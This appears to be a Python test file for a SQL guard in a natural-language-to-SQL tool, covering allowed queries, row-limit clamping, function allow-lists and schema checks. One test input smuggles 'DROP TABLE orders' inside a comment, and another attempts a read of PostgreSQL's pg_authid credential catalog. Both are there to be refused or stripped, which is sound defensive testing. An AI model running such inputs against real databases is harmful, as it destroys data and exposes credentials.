    "SELECT c.country, COUNT(*) FILTER (WHERE o.status = 'delivered') AS delivered FROM orders o "
    "JOIN customers c ON c.id = o.customer_id GROUP BY c.country",
    "SELECT EXTRACT(YEAR FROM order_date) AS y, COUNT(*) FROM orders GROUP BY y ORDER BY y",
    "SELECT DISTINCT ON (customer_id) customer_id, order_date FROM orders "
    "ORDER BY customer_id, order_date DESC",
    "SELECT name, unit_price, NTILE(4) OVER (ORDER BY unit_price) FROM products",
    "WITH t AS (SELECT customer_id, SUM(shipping_cost) AS s FROM orders GROUP BY 1) "
    "SELECT * FROM t WHERE s > (SELECT AVG(s) FROM t)",
    "SELECT country FROM customers UNION SELECT country FROM suppliers ORDER BY 1",
]
DUCKDB_LEGITIMATE = [
    "SELECT date_trunc('month', order_date), count(*) FROM orders GROUP BY ALL",
    "FROM orders SELECT status, count(*) GROUP BY status",
    "SELECT * FROM orders QUALIFY row_number() OVER (PARTITION BY customer_id "
    "ORDER BY order_date DESC) = 1",
    "SELECT * FROM range(5)",
    "SELECT strftime(order_date, '%Y-%m') AS m, sum(shipping_cost) FROM orders GROUP BY m",
    "SELECT country, count(*) FROM customers GROUP BY country HAVING count(*) > 10",
    "SELECT name FROM products WHERE id NOT IN (SELECT product_id FROM order_items)",
    "SELECT city FROM customers EXCEPT SELECT city FROM suppliers",
]
MYSQL_LEGITIMATE = [
    "SELECT DATE_FORMAT(order_date, '%Y-%m') AS m, COUNT(*) FROM orders GROUP BY m",
    "SELECT `status`, COUNT(*) FROM `orders` GROUP BY `status` LIMIT 3, 5",
    "SELECT * FROM shop.orders WHERE YEAR(order_date) = 2023",
    "SELECT name, IF(unit_price > 50, 'high', 'low') AS band FROM products",
]
DEMO_TABLES = [
    "categories",
    "suppliers",
    "products",
    "employees",
    "customers",
    "orders",
    "order_items",
    "payments",
]


def _demo_frames(snapshot: SchemaSnapshot) -> dict[str, pd.DataFrame]:
    """The demo tables as frames, with date and time columns parsed."""
    with sqlite3.connect(f"file:{DEMO_DB_PATH}?mode=ro", uri=True) as demo:
        frames = {}
        for name in DEMO_TABLES:
            info = snapshot.table(name)
            assert info is not None
            dates = [c.name for c in info.columns if "DATE" in c.type or "TIME" in c.type]
            query = f"SELECT * FROM {name}"  # noqa: S608 - a fixed table name
            frames[name] = pd.read_sql_query(query, demo, parse_dates=dates)
    return frames


@pytest.fixture(scope="module")
def duckdb_demo(snapshot: SchemaSnapshot) -> Iterator[duckdb.DuckDBPyConnection]:
    con = duckdb.connect()
    for name, frame in _demo_frames(snapshot).items():
        con.register(f"{name}_frame", frame)
        con.execute(f"CREATE TABLE {name} AS SELECT * FROM {name}_frame")  # noqa: S608
        con.unregister(f"{name}_frame")
    yield con
    con.close()


@pytest.fixture(scope="module")
def postgres_demo(request: pytest.FixtureRequest, snapshot: SchemaSnapshot) -> Iterator[Engine]:
    if "postgresql" not in BACKENDS:
        pytest.skip("PostgreSQL is not among NLSQL_TEST_BACKENDS")
    admin_url: str = request.getfixturevalue("pg_admin_url")
    url = create_pg_database(admin_url)
    engine = create_engine(url)
    try:
        for name, frame in _demo_frames(snapshot).items():
            frame.to_sql(name, engine, index=False)
        yield engine
    finally:
        engine.dispose()
        drop_pg_database(admin_url, url)


@pytest.mark.parametrize("sql", POSTGRES_LEGITIMATE)
def test_legitimate_postgres_query_is_accepted_and_runs(
    snapshot: SchemaSnapshot, postgres_demo: Engine, sql: str
) -> None:
    guarded = guard_sql(sql, snapshot=snapshot, dialect="postgresql", row_cap=ROW_CAP)
    with postgres_demo.connect() as conn:
        rows = conn.exec_driver_sql(guarded.sql).fetchall()
    assert 0 < len(rows) <= ROW_CAP or "30 days" in sql


@pytest.mark.parametrize("sql", DUCKDB_LEGITIMATE)
def test_legitimate_duckdb_query_is_accepted_and_runs(
    snapshot: SchemaSnapshot, duckdb_demo: duckdb.DuckDBPyConnection, sql: str
) -> None:
    guarded = guard_sql(sql, snapshot=snapshot, dialect="duckdb", row_cap=ROW_CAP)
    rows = duckdb_demo.execute(guarded.sql).fetchall()
    assert 0 < len(rows) <= ROW_CAP


@pytest.mark.parametrize("sql", MYSQL_LEGITIMATE)
def test_legitimate_mysql_query_is_accepted(snapshot: SchemaSnapshot, sql: str) -> None:
    # No MySQL server here: acceptance and rendering only.
    guarded = guard_sql(sql, snapshot=snapshot, dialect="mysql", row_cap=ROW_CAP)
    assert guarded.dialect == "mysql"
    assert guarded.limit <= ROW_CAP


@pytest.mark.parametrize(
    ("sql", "limit", "applied", "rendered_end"),
    [
        ("SELECT * FROM orders", ROW_CAP, True, f"LIMIT {ROW_CAP}"),
        ("SELECT * FROM orders LIMIT 5", 5, False, "LIMIT 5"),
        ("SELECT * FROM orders LIMIT 100000", ROW_CAP, True, f"LIMIT {ROW_CAP}"),
        ("SELECT * FROM orders LIMIT 500 OFFSET 20", ROW_CAP, True, f"LIMIT {ROW_CAP} OFFSET 20"),
        ("SELECT id FROM orders UNION SELECT id FROM payments", ROW_CAP, True, f"LIMIT {ROW_CAP}"),
        ("SELECT * FROM (SELECT * FROM orders LIMIT 5000) AS o", ROW_CAP, True, f"LIMIT {ROW_CAP}"),
        ("SELECT * FROM orders LIMIT (SELECT 5)", ROW_CAP, True, f"LIMIT {ROW_CAP}"),
    ],
)
def test_outermost_limit_is_added_or_clamped(
    snapshot: SchemaSnapshot, sql: str, limit: int, applied: bool, rendered_end: str
) -> None:
    guarded = guard_sql(sql, snapshot=snapshot, dialect="sqlite", row_cap=ROW_CAP)
    assert (guarded.limit, guarded.limit_applied) == (limit, applied)
    assert guarded.sql.endswith(rendered_end)


def test_comments_never_reach_the_database(snapshot: SchemaSnapshot) -> None:
    guarded = guard_sql(
        "SELECT id /* ; DROP TABLE orders */ FROM orders -- x", snapshot=snapshot, row_cap=5
    )
    assert guarded.sql == "SELECT id FROM orders LIMIT 5"


def test_tables_read_are_reported(snapshot: SchemaSnapshot) -> None:
    guarded = guard_sql(
        "WITH x AS (SELECT * FROM orders) SELECT * FROM x JOIN customers c ON c.id = x.customer_id",
        snapshot=snapshot,
        row_cap=5,
    )
    assert guarded.tables == ["customers", "orders"]


def test_schema_qualified_tables_match_the_snapshot_schema() -> None:
    columns = [ColumnInfo(name="id", type="integer")]
    snapshot = SchemaSnapshot(
        db_type="postgresql",
        database_name="shop",
        tables=[
            TableInfo(name="orders", schema_name="public", columns=columns),
            TableInfo(name="orders", schema_name="archive", columns=columns),
        ],
    )
    for sql in ("SELECT * FROM archive.orders", "SELECT * FROM public.orders", "TABLE orders"):
        assert guard_sql(sql, snapshot=snapshot, row_cap=5).tables == ["orders"]
    with pytest.raises(GuardRefused) as refused:
        guard_sql("SELECT * FROM staging.orders", snapshot=snapshot, row_cap=5)
    assert refused.value.details == {"rule": "unknown_table", "table": "staging.orders"}


def _parse_call(name: str, dialect: str) -> exp.Expr:
    for arguments in ("x", "x, 1", "", "x, 1, 2"):
        try:
            tree = sqlglot.parse_one(f"SELECT {name}({arguments})", read=dialect)
        except sqlglot.errors.ParseError:
            continue
        return tree.expressions[0]  # type: ignore[no-any-return]
    raise AssertionError(f"{name} does not parse as a call in {dialect}")


@pytest.mark.parametrize("dialect", sorted(ALLOWED_ANONYMOUS))
def test_every_allowed_name_is_reachable_as_written(dialect: str) -> None:
    # A name listed as anonymous that sqlglot models with a class of its own is allowed only if
    # that class is: otherwise the entry would be dead and the function refused.
    dead = []
    for name in sorted(ALLOWED_ANONYMOUS[dialect]):
        node = _parse_call(name, dialect)
        if not isinstance(node, exp.Func):
            continue  # an operator in sqlglot's model (`mod` is `%`): nothing to allow
        if not isinstance(node, exp.Anonymous) and type(node) not in ALLOWED_FUNCTION_CLASSES:
            dead.append((name, type(node).__name__))
    assert dead == []


def test_every_function_class_and_type_exists() -> None:
    assert all(issubclass(c, exp.Func) for c in ALLOWED_FUNCTION_CLASSES)
    assert len(ALLOWED_FUNCTION_CLASSES) > 150


@pytest.mark.parametrize("dialect", ["sqlite", "postgresql", "duckdb", "mysql"])
def test_deeply_nested_sql_is_refused_without_recursion(
    snapshot: SchemaSnapshot, dialect: str
) -> None:
    import sys

    # Even with little stack left (a deep server call chain), the refusal is a 400.
    limit = sys.getrecursionlimit()
    sys.setrecursionlimit(400)
    try:
        with pytest.raises(SqlNotParseable) as refused:
            guard_sql(
                "SELECT " + "(" * 60 + "1" + ")" * 60, snapshot=snapshot, dialect=dialect, row_cap=5
            )
    finally:
        sys.setrecursionlimit(limit)
    assert refused.value.details["rule"] == "sql_too_deep"


def test_a_table_named_like_the_postgres_catalog_is_read_only_when_qualified() -> None:
    snapshot = SchemaSnapshot(
        db_type="postgresql",
        database_name="shop",
        tables=[
            TableInfo(
                name="pg_authid", schema_name="public", columns=[ColumnInfo(name="id", type="int")]
            )
        ],
    )
    # Unqualified, PostgreSQL would resolve it to pg_catalog.pg_authid (searched first).
    with pytest.raises(GuardRefused) as refused:
        guard_sql("SELECT * FROM pg_authid", snapshot=snapshot, row_cap=5)
    assert refused.value.details["rule"] == "catalog_access"
    assert guard_sql("SELECT * FROM public.pg_authid", snapshot=snapshot, row_cap=5).tables == [
        "pg_authid"
    ]


ANALYTICS_CALLS = {
    "postgresql": [
        "date_trunc('month', order_date)",
        "EXTRACT(EPOCH FROM order_date)",
        "date_part('dow', order_date)",
        "to_char(order_date, 'YYYY-MM')",
        "age(order_date)",
        "now()",
        "CURRENT_DATE - 30",
        "round(shipping_cost::numeric, 2)",
        "coalesce(status, 'none')",
        "nullif(status, '')",
        "greatest(1, 2)",
        "abs(-1)",
        "ceil(1.5)",
        "power(2, 3)",
        "sqrt(4)",
        "ln(2)",
        "lower(status)",
        "upper(status)",
        "length(status)",
        "substring(status, 1, 2)",
        "trim(status)",
        "concat(status, 'x')",
        "replace(status, 'a', 'b')",
        "split_part(status, '-', 1)",
        "CAST(order_date AS date)",
        "order_date::timestamp",
        "id::text",
        "'1 day'::interval",
    ],
    "sqlite": [
        "strftime('%Y-%m', order_date)",
        "date(order_date, '+1 month')",
        "julianday(order_date)",
        "datetime(order_date)",
        "substr(status, 1, 2)",
        "ifnull(status, 'x')",
        "iif(id > 1, 1, 0)",
        "round(shipping_cost, 2)",
        "instr(status, 'e')",
        "printf('%.2f', shipping_cost)",
        "CAST(shipping_cost AS INTEGER)",
        "unixepoch(order_date)",
        "total(shipping_cost)",
    ],
    "duckdb": [
        "date_trunc('month', order_date)",
        "strftime(order_date, '%Y-%m')",
        "epoch(order_date)",
        "year(order_date)",
        "date_diff('day', order_date, shipped_date)",
        "today()",
        "round(shipping_cost, 2)",
        "quantile_cont(shipping_cost, 0.5)",
        "median(shipping_cost)",
        "arg_max(id, shipping_cost)",
        "string_agg(status, ',')",
        "regexp_matches(status, 'e')",
    ],
    "mysql": [
        "DATE_FORMAT(order_date, '%Y-%m')",
        "YEAR(order_date)",
        "MONTH(order_date)",
        "DATEDIFF(shipped_date, order_date)",
        "TIMESTAMPDIFF(DAY, order_date, shipped_date)",
        "DATE_ADD(order_date, INTERVAL 1 DAY)",
        "NOW()",
        "CURDATE()",
        "IFNULL(status, 'x')",
        "IF(id > 1, 1, 0)",
        "GROUP_CONCAT(status)",
        "CONCAT(status, 'x')",
        "ROUND(shipping_cost, 2)",
        "DATE(order_date)",
        "CAST(id AS CHAR)",
        "LEFT(status, 2)",
    ],
}


@pytest.mark.parametrize(
    ("dialect", "call"), [(d, c) for d, calls in ANALYTICS_CALLS.items() for c in calls]
)
def test_functions_analytics_needs_are_allowed(
    snapshot: SchemaSnapshot, dialect: str, call: str
) -> None:
    aggregate = any(
        name in call for name in ("total(", "quantile", "median", "arg_max", "_agg", "GROUP_CONCAT")
    )
    sql = f"SELECT {call} FROM orders" + ("" if aggregate else " WHERE id > 0")
    guard_sql(sql, snapshot=snapshot, dialect=dialect, row_cap=ROW_CAP)


@pytest.mark.parametrize(
    ("sql", "run_limit", "shown_limit"),
    [
        ("SELECT id FROM orders", "LIMIT 11", "LIMIT 10"),
        ("SELECT id FROM orders LIMIT 5000", "LIMIT 11", "LIMIT 10"),
        ("SELECT id FROM orders LIMIT 3", "LIMIT 3", "LIMIT 3"),
    ],
)
def test_the_shown_sql_carries_the_cap_and_the_run_sql_its_probe_row(
    snapshot: SchemaSnapshot, sql: str, run_limit: str, shown_limit: str
) -> None:
    """One guarding gives both texts (the pipeline used to guard twice for the shown one)."""
    guarded = guard_sql(sql, snapshot=snapshot, row_cap=11, shown_row_cap=10)
    assert guarded.sql.endswith(run_limit)
    assert guarded.shown_sql is not None and guarded.shown_sql.endswith(shown_limit)
    assert guarded.shown_sql == guard_sql(sql, snapshot=snapshot, row_cap=10).sql
